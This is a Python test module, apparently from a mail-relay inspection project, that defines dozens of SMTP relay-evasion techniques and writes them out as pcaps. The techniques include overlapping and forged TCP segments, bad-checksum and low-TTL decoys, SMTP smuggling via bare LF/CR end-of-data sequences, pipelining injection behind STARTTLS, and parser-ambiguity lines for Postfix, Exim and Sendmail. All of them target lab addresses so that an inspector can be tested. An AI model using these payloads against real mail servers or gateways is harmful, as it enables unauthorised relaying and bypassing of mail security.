#!/usr/bin/python3
"""
techniques.py -- the hostile-input techniques of tests/evasion.

Each technique is the client side of one SMTP dialogue toward
198.51.100.25:25 that tries to get a foreign RCPT accepted past an
inspector: a list of steps (rounds of crafted client segments, pauses,
forged packets) that is played twice:

  - as a crafted capture (pcap_bytes()), with a model of Postfix 3.7 as
    the lab runs it answering each round, for `relayguard replay`;
  - live by client.py from the attacker namespace, against the real
    Postfix through relayguardd.

Every technique names its own local part ("ev07"), so a row can be
looked up in Postfix's log and in the engine's events.  Per technique it
also records what a server with no inspector in front does with it
(control: "relays" -- the lab's open relay queues a message for a
foreign domain -- or "immune": the server itself never reads a foreign
RCPT out of it), and the verdict the replay half must give.

    techniques.py --list             names, one a line
    techniques.py --pcap DIR         write DIR/<name>.pcap for every row
"""

import os
import struct
import sys
import zlib

from scapy.all import IP, TCP, Raw  # noqa: E402

CLIENT = "203.0.113.10"
SERVER = "198.51.100.25"
T0 = 1767225600			# 2026-01-01T00:00:00Z
MAC_C = b"\x02\x00\x00\x00\x00\x0a"
MAC_S = b"\x02\x00\x00\x00\x00\x19"

BANNER = b"220 mail.example.test ESMTP lab\r\n"
EHLO_REPLY = b"".join(l + b"\r\n" for l in [
    b"250-mail.example.test", b"250-PIPELINING", b"250-SIZE 10240000",
    b"250-VRFY", b"250-ETRN", b"250-AUTH PLAIN LOGIN",
    b"250-ENHANCEDSTATUSCODES", b"250-8BITMIME", b"250-DSN",
    b"250-SMTPUTF8", b"250 CHUNKING"])

# TTL of a segment meant to expire between the gateway and the server.
# The lab's gateway decrements it to LOW_TTL - 1 (under min-ttl 10 of the
# evasion configuration); the suite drops what reaches the mail namespace
# with a TTL under 8, modelling a server some hops behind the gateway.
LOW_TTL = 5
FORGED_IPID = 0xBEEF		# forged "server" packets carry this IP id


def b(s):
    return s.encode("latin-1") if isinstance(s, str) else s


# -- steps --------------------------------------------------------------------

class Seg:
    """One client segment, off bytes after the round's first sequence
    number.  flags "R" makes it a RST (no data).  forge: a packet that
    claims to come from the server instead (seq: the server's next
    sequence number, ack: the round's first + off), sent by the attacker
    toward the gateway; the inspector sees it like any server packet."""

    def __init__(self, off, data=b"", flags="PA", ttl=64, badsum=False,
                 urg=None, gap_ms=0, forge=False):
        self.forge = forge
        self.off = off
        self.data = b(data)
        self.flags = flags
        self.ttl = ttl
        self.badsum = badsum
        self.urg = urg			# urgent pointer (sets URG)
        self.gap_ms = gap_ms		# wait before sending (live only)


class Round:
    """Client bytes that advance the sequence by len(data), sent as segs
    (default: one segment), of which the server application reads view
    (default: data).  replies: how many replies the server owes for it
    (default: what the Postfix model says)."""

    def __init__(self, data=b"", segs=None, view=None):
        self.data = b(data)
        self.segs = segs if segs is not None else \
            ([Seg(0, self.data)] if self.data else [])
        self.view = b(view) if view is not None else self.data


class Pause:
    """Wait (live); the capture's clock moves on."""

    def __init__(self, ms):
        self.ms = ms


class Midstream:
    """Live: stop here until the suite has started relayguardd.  The
    capture starts here (the inspector never saw what came before)."""


# -- a model of the lab's Postfix ---------------------------------------------

class PostfixModel:
    """What Postfix 3.7 (smtpd_forbid_bare_newline = no, no TLS) answers:
    lines end at LF, a CR before it is dropped, "." alone ends DATA."""

    def __init__(self):
        self.buf = b""
        self.data = False
        self.rcpts = 0

    def feed(self, view):
        out = []
        self.buf += view
        while b"\n" in self.buf:
            line, self.buf = self.buf.split(b"\n", 1)
            if line.endswith(b"\r"):
                line = line[:-1]
            out += self.line(line)
        return out

    def line(self, line):
        if self.data:
            if line == b".":
                self.data = False
                self.rcpts = 0
                return [b"250 2.0.0 Ok: queued as 4Q1X2Y3Z4W\r\n"]
            return []
        # Postfix splits words on ISSPACE: VT, FF and CR are blanks too.
        words = line.replace(b"\t", b" ")
        for c in (b"\v", b"\f", b"\r"):
            words = words.replace(c, b" ")
        verb = words.lstrip(b" ").split(b" ", 1)[0].split(b":", 1)[0].upper()
        if verb == b"EHLO":
            return [EHLO_REPLY]
        if verb == b"HELO":
            return [b"250 mail.example.test\r\n"]
        if verb == b"MAIL":
            return [b"250 2.1.0 Ok\r\n"]
        if verb == b"RCPT":
            self.rcpts += 1
            return [b"250 2.1.5 Ok\r\n"]
        if verb == b"DATA":
            if self.rcpts == 0:
                return [b"503 5.5.1 Error: need RCPT command\r\n"]
            self.data = True
            return [b"354 End data with <CR><LF>.<CR><LF>\r\n"]
        if verb in (b"RSET", b"NOOP"):
            return [b"250 2.0.0 Ok\r\n"]
        if verb == b"QUIT":
            return [b"221 2.0.0 Bye\r\n"]
        if verb == b"STARTTLS":
            return [b"502 5.5.1 Error: command not implemented\r\n"]
        return [b"502 5.5.2 Error: command not recognized\r\n"]


# -- the techniques -----------------------------------------------------------

class Technique:
    def __init__(self, name, desc, steps, control, replay, tag, evil,
                 relays_on=None):
        self.name = name
        # The lab servers on which the control (no relayguardd) must
        # relay: None means the Postfix of the one-server lab ("control"
        # says whether it does), a tuple names the servers of the
        # four-server lab (tests/inline/lab.sh LAB_MTAS) that do.
        self.relays_on = relays_on
        self.desc = desc
        self.steps = steps
        self.control = control		# "relays" or "immune"
        self.replay = replay		# expected replay verdict
        self.tag = tag			# local part naming the row
        self.evil = evil		# the foreign path the server may read


TECHNIQUES = []


def opening():
    steps = [Round(), Round("EHLO client.test\r\n")]	# banner, EHLO
    steps.append(Round("MAIL FROM:<attacker@sender.test>\r\n"))
    return steps


def closing(tag):
    return [Round("DATA\r\n"),
            Round("From: attacker@sender.test\r\nSubject: %s\r\n\r\n"
                  "relayed?\r\n.\r\n" % tag),
            Round("QUIT\r\n")]


def add(name, desc, middle, control="relays",
        replay="stopped: relay-attempt", evil="{t}@elsewhere.test",
        pre=None, quit_only=False, relays_on=None):
    """middle(tag) -> the rounds between MAIL and DATA (pre(tag): instead
    of banner, EHLO, MAIL; quit_only: the middle sends the message itself,
    only QUIT follows); evil: the foreign path the server reads when
    nothing stops it ({t}: the tag); replay: the expected replay verdict
    (a regular expression)."""
    tag = "ev%02d" % (len(TECHNIQUES) + 1)
    tail = [Round("QUIT\r\n")] if quit_only else closing(tag)
    steps = (pre(tag) if pre else opening()) + middle(tag) + tail
    TECHNIQUES.append(Technique(name, desc, steps, control, replay, tag,
                                evil.format(t=tag, T=tag.upper()),
                                relays_on))


def rcpt(tag):
    return b("RCPT TO:<%s@elsewhere.test>\r\n" % tag)


def pair(tag):
    """A local and a foreign RCPT line of the same length that differ only
    inside the domain (offsets 16..20): example.test / exploit.test."""
    good = b("RCPT TO:<%s@example.test>\r\n" % tag)
    evil = b("RCPT TO:<%s@exploit.test>\r\n" % tag)
    assert len(good) == len(evil)
    return good, evil


def ooo(line, early, late_head=True):
    """Segments of line: the early ones as given, then the head [0, 9)
    that fills the hole."""
    segs = [Seg(o, d) for o, d in early]
    if late_head:
        segs.append(Seg(0, line[:9]))
    return segs


# Baseline: nothing evasive (the row every other row is measured against).
add("baseline", "plain foreign RCPT in one segment",
    lambda t: [Round(rcpt(t))])

add("tiny-segments", "MAIL, RCPT and DATA lines in 1-byte segments",
    lambda t: [Round(rcpt(t), segs=[Seg(i, rcpt(t)[i:i + 1])
                                    for i in range(len(rcpt(t)))])],
    pre=lambda t: [Round(), Round("EHLO client.test\r\n"),
                   Round("MAIL FROM:<attacker@sender.test>\r\n",
                         segs=[Seg(i, bytes([c])) for i, c in enumerate(
                             b"MAIL FROM:<attacker@sender.test>\r\n")])])


def _reverse(t):
    line = rcpt(t)
    cuts = list(range(0, len(line), 4))
    segs = [Seg(c, line[c:c + 4]) for c in reversed(cuts)]
    return [Round(line, segs=segs)]


add("reorder-reverse", "RCPT line in 4-byte segments sent last first",
    _reverse)

add("retransmission", "RCPT segment sent twice back to back",
    lambda t: [Round(rcpt(t), segs=[Seg(0, rcpt(t)), Seg(0, rcpt(t))])])


def _overlap_same(t):
    line = rcpt(t)
    return [Round(line, segs=ooo(line, [(20, line[20:]), (12, line[12:26]),
                                        (6, line[6:16])]))]


add("overlap-same-data", "overlapping early copies with identical bytes",
    _overlap_same)


def _inorder(first_good):
    def mk(t):
        good, evil = pair(t)
        a, c = (good, evil) if first_good else (evil, good)
        return [Round(a, segs=[Seg(0, a), Seg(0, c)], view=a)]
    return mk


add("overlap-inorder-evil-first",
    "in order: foreign copy, then a local copy of the same range",
    _inorder(False), evil="{t}@exploit.test")
add("overlap-inorder-benign-first",
    "in order: local copy, then a foreign copy (Linux keeps the first)",
    _inorder(True), control="immune",
    replay="stopped: anomaly overlap-mismatch", evil="{t}@exploit.test")


def _longer(first_good):
    # Early: a copy of the tail without its CRLF, then a copy of the same
    # start one line ending longer: Linux replaces the queued one.
    def mk(t):
        good, evil = pair(t)
        a, c = (good, evil) if first_good else (evil, good)
        return [Round(c, segs=ooo(c, [(9, a[9:-2]), (9, c[9:])]), view=c)]
    return mk


add("overlap-ooo-longer-benign-first",
    "early local tail, then a longer foreign copy of the same start "
    "(Linux: longer replaces)",
    _longer(True),
    replay="stopped: anomaly overlap-mismatch", evil="{t}@exploit.test")
add("overlap-ooo-longer-evil-first",
    "early foreign tail, then a longer local copy (Linux: the local one)",
    _longer(False), control="immune", evil="{t}@exploit.test")


def _covers(t):
    # Early local piece from 14, then a foreign one from 9 covering it:
    # Linux drops the queued piece for the one starting earlier.
    good, evil = pair(t)
    return [Round(evil, segs=ooo(evil, [(14, good[14:]), (9, evil[9:])]))]


add("overlap-ooo-covers-benign-first",
    "early local piece, then a foreign one starting earlier and covering it",
    _covers,
    replay="stopped: anomaly overlap-mismatch", evil="{t}@exploit.test")


def _inside(t):
    # Early foreign tail, then a local piece inside it: Linux drops the
    # inner one, the foreign tail stays.
    good, evil = pair(t)
    return [Round(evil, segs=ooo(evil, [(9, evil[9:]), (13, good[13:21])]))]


add("overlap-ooo-inside-evil-first",
    "early foreign tail, then a local piece inside it", _inside,
    evil="{t}@exploit.test")


def _partial(t):
    # Early local piece [16, end), then a foreign one [9, 21): on a partial
    # overlap Linux keeps the lower-starting one, so the server reads the
    # foreign domain (it differs in 16..20); a first-copy reader the local.
    good, evil = pair(t)
    return [Round(evil, segs=ooo(evil, [(16, good[16:]), (9, evil[9:21])]))]


add("overlap-ooo-partial-benign-first",
    "early local piece, then a foreign one overlapping its start "
    "(Linux: the lower start wins)",
    _partial,
    replay="stopped: anomaly overlap-mismatch", evil="{t}@exploit.test")


def _gap(t):
    line = rcpt(t)
    return [Round(line, segs=[Seg(12, line[12:]),
                              Seg(0, line[:12], gap_ms=300)])]


add("gap-then-fill", "RCPT tail first, the missing head 300 ms later", _gap)


def _urgent(t):
    # "RCPXT": the X is urgent; Linux takes it out of the stream, so Postfix
    # reads RCPT while a reader of every byte sees RCPXT.
    line = b("RCPXT TO:<%s@elsewhere.test>\r\n" % t)
    return [Round(line, segs=[Seg(0, line, flags="PAU", urg=4)],
                  view=rcpt(t))]


add("urgent-hidden-byte",
    "URG byte inside the verb: the server reads RCPT, a naive reader RCPXT",
    _urgent, replay="stopped: anomaly urgent-data")


def _badsum(first_evil):
    def mk(t):
        good, evil = pair(t)
        a = evil if first_evil else good
        return [Round(evil, segs=[Seg(0, a, badsum=True), Seg(0, evil)])]
    return mk


add("badsum-benign-then-evil",
    "local copy with a bad TCP checksum, then the foreign copy",
    _badsum(False),
    replay="stopped: anomaly overlap-mismatch", evil="{t}@exploit.test")
add("badsum-evil-then-evil",
    "foreign copy with a bad TCP checksum, then a good one",
    _badsum(True), evil="{t}@exploit.test")


def _lowttl(t):
    good, evil = pair(t)
    return [Round(evil, segs=[Seg(0, good, ttl=LOW_TTL), Seg(0, evil)])]


add("low-ttl-benign-then-evil",
    "local copy with TTL %d (expires before the server), then the foreign "
    "copy" % LOW_TTL, _lowttl, evil="{t}@exploit.test")


def _rst(off, **kw):
    def mk(t):
        return [Round(b"", segs=[Seg(off, flags="RA", **kw)]),
                Round(rcpt(t))]
    return mk


add("rst-in-window-wrong-seq", "RST 100 bytes ahead (in window), then RCPT",
    _rst(100))
add("rst-out-of-window", "RST 2^30 ahead, then RCPT", _rst(1 << 30))
add("rst-exact-bad-checksum", "RST at the exact sequence with a bad "
    "checksum, then RCPT", _rst(0, badsum=True))
add("rst-exact-low-ttl", "RST at the exact sequence with TTL %d, then RCPT"
    % LOW_TTL, _rst(0, ttl=LOW_TTL))


add("rst-forged-from-server", "a RST claiming to come from the server, at "
    "its exact sequence (the server never sees it), then RCPT",
    lambda t: [Round(b"", segs=[Seg(0, flags="RA", forge=True)]),
               Round(rcpt(t))])


def _forged_ack(t):
    line = rcpt(t)
    return [Round(line, segs=[Seg(12, line[12:]),
                              Seg(len(line), flags="A", forge=True,
                                  gap_ms=20),
                              Seg(0, line[:12], gap_ms=100)])]


# Replay cannot tell a forged ACK from capture loss (it skips the hole,
# as it must for lossy captures), so it must at least flag the partial
# line it then cannot read; inline, the ACK itself gives the forgery away.
add("gap-forged-server-ack", "RCPT tail first, a forged server ACK beyond "
    "the hole, then the head", _forged_ack,
    replay=r"stopped: (relay-attempt|anomaly .+)")


def _forged_354(t):
    return [Round("DATA\r\n", segs=[Seg(0, "DATA\r\n"),
                                    Seg(0, "354 go ahead\r\n",
                                        forge=True)]),
            Round(rcpt(t))]


# A capture has no interfaces: replay sees two server copies of the same
# bytes and flags the mismatch; inline, the forged copy comes in on the
# client's interface and is dropped.
add("forged-server-354", "DATA with no RCPT (the server says 503) and a "
    "forged 354 ahead of it; then RCPT as if in the body", _forged_354,
    replay=r"stopped: (relay-attempt|anomaly .*overlap-mismatch.*)")


def _mid_pre(t):
    return opening() + [Midstream()]


add("midstream-pickup", "session established before relayguardd starts; "
    "then RCPT", lambda t: [Round(rcpt(t))], pre=_mid_pre)


def _mid_body_pre(t):
    return opening() + [Round("RCPT TO:<%s@example.test>\r\n" % t),
                        Round("DATA\r\n"), Midstream()]


def _mid_body(t):
    return [Round("Subject: local\r\n\r\nhello\r\n.\r\n"
                  "MAIL FROM:<attacker@sender.test>\r\n" +
                  "RCPT TO:<%s@elsewhere.test>\r\n" % t)]


add("midstream-in-body", "relayguardd starts while the client is inside "
    "DATA; the body ends and a foreign RCPT follows", _mid_body,
    pre=_mid_body_pre)


def _mid_line_pre(t):
    line = rcpt(t)
    return opening() + [Round(line[:13], view=line[:13]), Midstream()]


def _mid_line(t):
    line = rcpt(t)
    return [Round(line[13:])]


# The capture holds only the line's tail: replay cannot judge the RCPT,
# but must at least flag the partial line it skips.
add("midstream-mid-line", "the first 13 bytes of the RCPT line pass before "
    "relayguardd starts, the rest after", _mid_line, pre=_mid_line_pre,
    replay=r"stopped: (relay-attempt|anomaly .+)")


SMUGGLE = [("lf-lf", "\n.\n", "relays"), ("crlf-lf", "\r\n.\n", "relays"),
           ("lf-crlf", "\n.\r\n", "relays"), ("cr-cr", "\r.\r", "immune"),
           ("crlf-cr", "\r\n.\r", "immune"), ("lf-cr", "\n.\r", "immune"),
           ("cr-lf", "\r.\n", "immune"), ("cr-crlf", "\r.\r\n", "immune")]


def _smuggle(seq, split):
    def mk(t):
        data = b("Subject: smuggle\r\n\r\nhello" + seq +
                 "MAIL FROM:<attacker@sender.test>\r\n"
                 "RCPT TO:<%s@elsewhere.test>\r\nDATA\r\n"
                 "Subject: smuggled\r\n\r\nrelayed\r\n.\r\n" % t)
        segs = None
        if split:
            # The dot sequence across two segments.
            cut = data.index(b(seq)) + 1
            segs = [Seg(0, data[:cut]), Seg(cut, data[cut:], gap_ms=50)]
        return [Round("RCPT TO:<%s@example.test>\r\n" % t),
                Round("DATA\r\n"), Round(data, segs=segs)]
    return mk


for _n, _seq, _ctl in SMUGGLE:
    add("smuggle-" + _n, "end of data written %r, then a smuggled "
        "MAIL/RCPT/DATA" % _seq, _smuggle(_seq, False), control=_ctl,
        replay="stopped: smuggling", quit_only=True)
add("smuggle-lf-lf-split", "LF . LF split after the first LF across two "
    "segments", _smuggle("\n.\n", True), replay="stopped: smuggling",
    quit_only=True)


def _starttls_pre(t):
    return [Round(), Round("EHLO client.test\r\n")]


def _starttls(t):
    return [Round("STARTTLS\r\nMAIL FROM:<attacker@sender.test>\r\n"
                  "RCPT TO:<%s@elsewhere.test>\r\n" % t)]


# Bytes past STARTTLS or DATA before the reply: inline they would pass
# before the reply says what they are, so both halves refuse them.
HELD = r"stopped: (ambiguity pipelined-after-wait|relay-attempt)"
add("starttls-pipelined-injection", "MAIL and RCPT pipelined behind "
    "STARTTLS in one segment", _starttls, pre=_starttls_pre, replay=HELD)

BODY = "Subject: pipelined\r\n\r\nrelayed\r\n.\r\n"


def _starttls_data(t):
    return [Round("STARTTLS\r\nMAIL FROM:<attacker@sender.test>\r\n"
                  "RCPT TO:<%s@elsewhere.test>\r\nDATA\r\n%s" % (t, BODY))]


add("starttls-pipelined-injection-data", "MAIL, RCPT, DATA and the body "
    "pipelined behind STARTTLS in one segment", _starttls_data,
    pre=_starttls_pre, quit_only=True, replay=HELD)


def _data_inject(t):
    return [Round("DATA\r\nRCPT TO:<%s@elsewhere.test>\r\nDATA\r\n%s"
                  % (t, BODY))]


add("data-pipelined-injection", "DATA with no RCPT yet (the server says "
    "503), then RCPT, DATA and the body in the same segment", _data_inject,
    quit_only=True, replay=HELD)

TRICKS = [
    ("source-route", "<@mx.example.test:{t}@elsewhere.test>",
     "{t}@elsewhere.test"),
    ("percent-hack", "<{t}%elsewhere.test@example.test>", None),
    ("bang-path", "<elsewhere.test!{t}@example.test>", None),
    ("quoted-local-part", '<"{t}@elsewhere.test"@example.test>', None),
    ("literal-other-address", "<{t}@[203.0.113.99]>", "{t}@[203.0.113.99]"),
    ("trailing-dot", "<{t}@elsewhere.test.>", "{t}@elsewhere.test"),
    ("uppercase", "<{T}@ELSEWHERE.TEST>", "{T}@ELSEWHERE.TEST"),
    ("esmtp-params", "<{t}@elsewhere.test> NOTIFY=NEVER "
     "ORCPT=rfc822;{t}@example.test", "{t}@elsewhere.test"),
    ("no-brackets", "{t}@elsewhere.test", "{t}@elsewhere.test"),
    ("space-and-lowercase-verb", " <{t}@elsewhere.test>",
     "{t}@elsewhere.test"),
    ("domainless-user", "<{t}>", None),
]


def _trick(fmt, verb):
    def mk(t):
        return [Round("%s%s\r\n" % (verb, fmt.format(t=t, T=t.upper())))]
    return mk


for _n, _fmt, _evil in TRICKS:
    _verb = "rcpt to:" if _n == "space-and-lowercase-verb" else "RCPT TO:"
    add("trick-" + _n, "%s%s" % (_verb, _fmt.format(t="TAG", T="TAG")),
        _trick(_fmt, _verb), control="relays" if _evil else "immune",
        evil=_evil or _fmt.strip(" <>").split(">")[0])


# -- ambiguity (issue 7): lines some real server reads otherwise ---------------
# Each relays on at least one of the four lab servers when nothing stops
# it (Postfix and Sendmail split on VT/FF/CR; Exim runs byte 16,385 of a
# line as the next command; Sendmail answers BDAT with 500 and runs the
# "chunk"; a NUL ends a Sendmail line).  relayguard refuses them all.
AMB = r"stopped: (ambiguity .+|relay-attempt)"
for _n, _line in [("vt-separator", "RCPT\x0bTO:<{t}@elsewhere.test>"),
                  ("ff-separator", "RCPT\x0cTO:<{t}@elsewhere.test>"),
                  ("cr-separator", "RCPT\rTO:<{t}@elsewhere.test>"),
                  ("leading-vt", "\x0bRCPT TO:<{t}@elsewhere.test>"),
                  ("nul-ends-line",
                   "RCPT TO:{t}@elsewhere.test\x00.example.test")]:
    add("ambiguity-" + _n, repr(_line.format(t="TAG")),
        lambda t, l=_line: [Round(l.format(t=t) + "\r\n")], replay=AMB)


def _data_vt(t):
    # All but OpenSMTPD take DATA<VT> for DATA: the "." line ends the body
    # and the MAIL/RCPT/DATA after it relay.  A reader that took the line
    # for an unknown command would read "BDAT 43" and skip the dot and
    # MAIL line as chunk data.
    return [Round("RCPT TO:<%s@example.test>\r\n" % t),
            Round("DATA\x0b\r\n"),
            Round("Subject: x\r\n\r\nBDAT 43\r\n.\r\n"
                  "MAIL FROM:<attacker@sender.test>\r\n"
                  "RCPT TO:<%s@elsewhere.test>\r\nDATA\r\n%s" % (t, BODY))]


add("ambiguity-data-vt", "DATA<VT> (DATA to Postfix, Exim and Sendmail), "
    "a body hiding its end behind BDAT, then MAIL, RCPT, DATA", _data_vt,
    replay=AMB, quit_only=True, relays_on=("postfix", "exim", "sendmail"))


def _long_line(t):
    head = "NOOP "
    line = head + "x" * (16385 - len(head)) + \
        "RCPT TO:<%s@elsewhere.test>\r\n" % t
    return [Round(line, segs=[Seg(o, line[o:o + 1400])
                              for o in range(0, len(line), 1400)])]


add("ambiguity-long-line", "a NOOP line of 16,385 bytes whose tail is a "
    "foreign RCPT (Exim runs it)", _long_line, replay=AMB, control="immune",
    relays_on=("exim",))


def _bdat_helo(t):
    return [Round(), Round("HELO client.test\r\n"),
            Round("MAIL FROM:<attacker@sender.test>\r\n")]


def _bdat(t):
    line = "RCPT TO:<%s@elsewhere.test>\r\n" % t
    return [Round("BDAT %d\r\n%s" % (len(line), line))]


add("ambiguity-bdat-not-offered", "after HELO (no CHUNKING offered): "
    "BDAT n and n bytes that are a foreign RCPT (Exim and Sendmail run it)",
    _bdat,
    pre=_bdat_helo, replay=AMB, control="immune",
    relays_on=("exim", "sendmail"))

BY_NAME = {t.name: t for t in TECHNIQUES}


# -- packets and captures -----------------------------------------------------

def tcp_packet(src, dst, sport, dport, seq, ack, flags, data=b"", ttl=64,
               urg=None, badsum=False, window=65535, opts=None, ipid=1):
    ip = IP(src=src, dst=dst, ttl=ttl, id=ipid & 0xFFFF, flags="DF")
    tcp = TCP(sport=sport, dport=dport, seq=seq & 0xFFFFFFFF,
              ack=ack & 0xFFFFFFFF, flags=flags, window=window,
              urgptr=urg or 0, options=opts or [])
    p = ip / tcp
    if data:
        p = p / Raw(load=data)
    raw = bytearray(bytes(p))
    if badsum:
        ihl = (raw[0] & 0x0F) * 4
        good = struct.unpack("!H", raw[ihl + 16:ihl + 18])[0]
        raw[ihl + 16:ihl + 18] = struct.pack("!H", good ^ 0x5A5A)
    return bytes(raw)


def isn_for(name, salt=""):
    return zlib.crc32(b(name + "/" + salt)) & 0x7FFFFFFF


def pcap_bytes(tech, cport=40000):
    """The capture of one technique: Ethernet frames as seen between the
    client and the server, the server answering as the model says."""
    pkts = []
    clock = [T0 * 1000000]
    ipid = [0x1000, 0x5000]

    def emit(to_server, flags, seq, ack, data=b"", forge=False, **kw):
        d = 0 if to_server else 1
        src, dst = (CLIENT, SERVER) if to_server else (SERVER, CLIENT)
        sp, dp = (cport, 25) if to_server else (25, cport)
        ipb = tcp_packet(src, dst, sp, dp, seq, ack, flags, data,
                         ipid=FORGED_IPID if forge else ipid[d], **kw)
        ipid[d] += 1
        mac = (MAC_S + MAC_C) if to_server else (MAC_C + MAC_S)
        pkts.append((clock[0], mac + b"\x08\x00" + ipb))
        clock[0] += 1000

    cseq = isn_for(tech.name, "c")
    sseq = isn_for(tech.name, "s")
    model = PostfixModel()
    midstream = any(isinstance(s, Midstream) for s in tech.steps)
    if not midstream:
        opts = [("MSS", 1460)]
        emit(True, "S", cseq, 0, opts=opts)
        emit(False, "SA", sseq, cseq + 1, opts=opts)
        emit(True, "A", cseq + 1, sseq + 1)
    cseq += 1
    sseq += 1
    first = True
    for step in tech.steps:
        if isinstance(step, Midstream):
            pkts = []			# the inspector starts here
            continue
        if isinstance(step, Pause):
            clock[0] += step.ms * 1000
            continue
        for s in step.segs:
            clock[0] += s.gap_ms * 1000
            if s.forge:
                emit(False, s.flags, sseq, cseq + s.off, s.data, forge=True)
            elif "R" in s.flags:
                emit(True, s.flags, cseq + s.off, sseq, ttl=s.ttl,
                     badsum=s.badsum)
            else:
                emit(True, s.flags, cseq + s.off, sseq, s.data, ttl=s.ttl,
                     badsum=s.badsum, urg=s.urg)
        cseq += len(step.data)
        replies = [BANNER] if first else model.feed(step.view)
        first = False
        text = b"".join(replies)
        if text:
            emit(False, "PA", sseq, cseq, text)
            sseq += len(text)
        elif step.segs:
            emit(False, "A", sseq, cseq)
        if replies and step.data:
            emit(True, "A", cseq, sseq)
    # The client closes; the server answers with its FIN.
    emit(True, "FA", cseq, sseq)
    emit(False, "FA", sseq, cseq + 1)
    emit(True, "A", cseq + 1, sseq + 1)
    out = [struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)]
    for us, frame in pkts:
        out.append(struct.pack("<IIII", us // 1000000, us % 1000000,
                               len(frame), len(frame)))
        out.append(frame)
    return b"".join(out)


def main(argv):
    if argv[:1] == ["--list"]:
        for t in TECHNIQUES:
            print(t.name)
        return 0
    if len(argv) == 2 and argv[0] == "--pcap":
        os.makedirs(argv[1], exist_ok=True)
        for i, t in enumerate(TECHNIQUES):
            with open(os.path.join(argv[1], t.name + ".pcap"), "wb") as f:
                f.write(pcap_bytes(t, cport=40000 + i))
        return 0
    print(__doc__.strip(), file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
